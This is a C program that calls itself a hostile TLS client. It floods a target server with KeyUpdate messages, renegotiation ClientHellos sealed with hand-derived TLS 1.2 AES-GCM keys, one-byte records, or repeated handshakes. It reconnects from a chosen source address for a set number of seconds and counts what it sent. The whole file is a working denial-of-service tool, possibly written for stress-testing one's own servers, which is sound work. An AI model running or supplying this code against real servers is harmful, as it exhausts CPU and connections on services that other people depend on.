// A hostile TLS client: tls MODE HOST PORT SOURCE SECONDS. Connects from SOURCE again whenever the server hangs up, and
// prints how often it connected and what it sent.
//
//   key-updates      KeyUpdate messages, one after the other (RFC 8446, section 4.6.3)
//   renegotiations   ClientHello messages on a TLS 1.2 connection that stands (RFC 5246, section 7.4.1)
//   tiny-records     an HTTP request, a byte in each record
//   handshakes       a handshake, then nothing but the end of the connection
#include <arpa/inet.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/hmac.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static unsigned long connections, messages;
static double end;

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static int connected(const char *host, int port, const char *source) {
    int one = 1;
    struct timeval patience = {.tv_sec = 1};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    struct sockaddr_in from = {.sin_family = AF_INET};
    inet_pton(AF_INET, host, &to.sin_addr);
    inet_pton(AF_INET, source, &from.sin_addr);
    int descriptor = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(descriptor, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
    setsockopt(descriptor, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    setsockopt(descriptor, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (bind(descriptor, (struct sockaddr *)&from, sizeof from) == 0
        && connect(descriptor, (struct sockaddr *)&to, sizeof to) == 0)
        return descriptor;
    close(descriptor);
    return -1;
}

// The keys of a TLS 1.2 client with AES-128-GCM (RFC 5246, section 6.3; RFC 5288).
struct seal {
    unsigned char key[16], salt[4];
    unsigned long long sequence;
};

static void hmac(const unsigned char *key, const unsigned char *bytes, size_t count, unsigned char *digest) {
    HMAC(EVP_sha256(), key, 48, bytes, count, digest, NULL);
}

static void derive(SSL *ssl, struct seal *seal) {
    unsigned char master[48], block[64], chained[32 + 77], seed[77] = "key expansion";
    SSL_SESSION_get_master_key(SSL_get_session(ssl), master, sizeof master);
    SSL_get_server_random(ssl, seed + 13, 32);
    SSL_get_client_random(ssl, seed + 45, 32);
    memcpy(chained + 32, seed, 77);
    hmac(master, seed, 77, chained);
    hmac(master, chained, sizeof chained, block);
    hmac(master, chained, 32, chained);
    hmac(master, chained, sizeof chained, block + 32);
    memcpy(seal->key, block, 16);
    memcpy(seal->salt, block + 32, 4);
    seal->sequence = 1;  // the Finished message was 0
}

static size_t sealed(struct seal *seal, unsigned char type, const unsigned char *text, size_t count, unsigned char *out) {
    unsigned char nonce[12], additional[13];
    int length;
    memcpy(nonce, seal->salt, 4);
    for (int i = 0; i < 8; i++) nonce[4 + i] = (unsigned char)(seal->sequence >> (56 - 8 * i));
    seal->sequence++;
    memcpy(additional, nonce + 4, 8);
    memcpy(additional + 8, (unsigned char[]){type, 3, 3, (unsigned char)(count >> 8), (unsigned char)count}, 5);
    size_t total = 8 + count + 16;
    memcpy(out, (unsigned char[]){type, 3, 3, (unsigned char)(total >> 8), (unsigned char)total}, 5);
    memcpy(out + 5, nonce + 4, 8);
    EVP_CIPHER_CTX *context = EVP_CIPHER_CTX_new();
    EVP_EncryptInit_ex(context, EVP_aes_128_gcm(), NULL, seal->key, nonce);
    EVP_EncryptUpdate(context, NULL, &length, additional, sizeof additional);
    EVP_EncryptUpdate(context, out + 13, &length, text, (int)count);
    EVP_EncryptFinal_ex(context, out + 13 + count, &length);
    EVP_CIPHER_CTX_ctrl(context, EVP_CTRL_AEAD_GET_TAG, 16, out + 13 + count);
    EVP_CIPHER_CTX_free(context);
    return 5 + total;
}

static void renegotiations(SSL *ssl, int descriptor) {
    static const unsigned char hello[] = {1, 0, 0, 0};
    unsigned char records[256 * 64], ignored[4096];
    struct seal seal;
    derive(ssl, &seal);
    while (now() < end) {
        size_t count = 0;
        for (int i = 0; i < 256; i++) count += sealed(&seal, 22, hello, sizeof hello, records + count);
        if (send(descriptor, records, count, MSG_NOSIGNAL) < 0) return;
        messages += 256;
        while (recv(descriptor, ignored, sizeof ignored, MSG_DONTWAIT) > 0) {}
    }
}

// Sealed beforehand, so that the server and not this side sets the pace.
static void key_updates(SSL *ssl, int descriptor) {
    BIO *memory = BIO_new(BIO_s_mem());
    SSL_set0_wbio(ssl, memory);
    while (now() < end) {
        for (int i = 0; i < 20000; i++) {
            SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED);
            SSL_do_handshake(ssl);
        }
        char *bytes;
        size_t count = (size_t)BIO_get_mem_data(memory, &bytes), sent = 0;
        while (sent < count && now() < end) {
            ssize_t part = send(descriptor, bytes + sent, count - sent, MSG_NOSIGNAL);
            if (part <= 0) return;
            sent += (size_t)part;
        }
        messages += 20000;
        (void)BIO_reset(memory);
    }
}

static void tiny_records(SSL *ssl) {
    static const char start[] = "GET /health HTTP/1.1\r\nHost: h\r\nX: ";
    for (const char *byte = start; *byte; byte++) if (SSL_write(ssl, byte, 1) != 1) return;
    while (now() < end && SSL_write(ssl, "x", 1) == 1) messages++;
}

int main(int count, char **words) {
    if (count != 6) return 64;
    const char *mode = words[1];
    int old = strcmp(mode, "renegotiations") == 0;
    signal(SIGPIPE, SIG_IGN);
    end = now() + atof(words[5]);
    SSL_CTX *context = SSL_CTX_new(TLS_client_method());
    if (old) {
        SSL_CTX_set_max_proto_version(context, TLS1_2_VERSION);
        SSL_CTX_set_cipher_list(context, "ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256");
    }
    while (now() < end) {
        int descriptor = connected(words[2], atoi(words[3]), words[4]);
        if (descriptor < 0) {
            usleep(1000);
            continue;
        }
        SSL *ssl = SSL_new(context);
        SSL_set_fd(ssl, descriptor);
        if (SSL_connect(ssl) == 1) {
            connections++;
            if (old) renegotiations(ssl, descriptor);
            else if (strcmp(mode, "key-updates") == 0) key_updates(ssl, descriptor);
            else if (strcmp(mode, "tiny-records") == 0) tiny_records(ssl);
        }
        SSL_free(ssl);
        close(descriptor);
        ERR_clear_error();
    }
    printf("%lu connections, %lu messages\n", connections, messages);
    return 0;
}
